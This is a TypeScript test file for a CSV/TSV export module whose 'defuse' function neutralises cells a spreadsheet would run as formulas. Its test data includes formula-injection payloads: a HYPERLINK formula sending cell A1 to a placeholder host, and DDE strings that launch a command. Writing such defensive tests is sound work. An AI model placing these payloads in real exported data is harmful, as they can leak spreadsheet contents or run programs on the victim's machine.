import { csvParseRows } from 'd3-dsv'
import fc from 'fast-check'
import { expect, it } from 'vitest'
import { defuse, formatCsv, formatTsv } from '../../src/model/csv.ts'

it('makes text of what a spreadsheet would run as a formula', () => {
  for (const text of [
    '=HYPERLINK("http://example.invalid/"&A1)',
    '+1+cmd|"/c calc"!A1',
    '-2+3+cmd|"/c calc"!A1',
    '@SUM(1,1)',
    ' =1+1',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    '－A1',
    '-3.35万元',
    '-1-1',
  ])
    expect(defuse(text)).toBe(`'${text}`)
})

it('leaves numbers, dashes and plain words as they are', () => {
  for (const text of [
    '-3.35',
    '+440.30',
    '-1,067.61',
    '-0.4%',
    '-1e-7',
    '-',
    '－',
    '5.65',
    '三公=经费',
    'a@b',
    '',
    '2019-2020',
  ])
    expect(defuse(text)).toBe(text)
})

it('loses nothing but what is defused, whatever the cells hold', () => {
  const cell = fc.string({ unit: fc.constantFrom('"', ',', '\n', '\r', '\t', '=', '-', '1', '甲', ' ', "'") })
  fc.assert(
    fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1 }), (rows) => {
      expect(csvParseRows(formatCsv(rows))).toEqual(rows.map((row) => row.map(defuse)))
    }),
  )
})

it('pastes row by row, cell by cell', () => {
  expect(
    formatTsv([
      ['=1', 'x\ty'],
      ['-1', ''],
    ]),
  ).toBe("'=1\tx y\n-1\t")
})
